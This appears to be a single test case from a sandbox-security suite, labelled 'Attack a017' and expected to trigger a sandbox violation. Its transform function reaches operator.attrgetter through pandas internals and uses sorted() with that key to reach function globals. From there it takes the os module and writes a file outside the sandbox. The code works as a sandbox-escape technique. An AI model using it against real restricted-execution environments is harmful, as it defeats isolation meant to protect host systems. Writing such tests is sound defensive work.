# Attack a017: sorted(key=operator.attrgetter) reached through pandas.core.frame.operator.
# expect: sandbox_violation
# stage: preview
# effect: write
# covers: RestrictedPython advisory: iteration in C (sorted with key); operator.attrgetter
# calibrate: live

import pandas as pd


def transform(df):
    ag = pd.core.frame.operator.attrgetter("__init__.__globals__")
    g = sorted([pd.DataFrame], key=ag)
    o = ag(g[0])["sys"].modules["os"]
    fd = o.open("{OUTSIDE_FILE}", o.O_WRONLY | o.O_CREAT, 420)
    o.write(fd, b"escaped")
    o.close(fd)
    return df
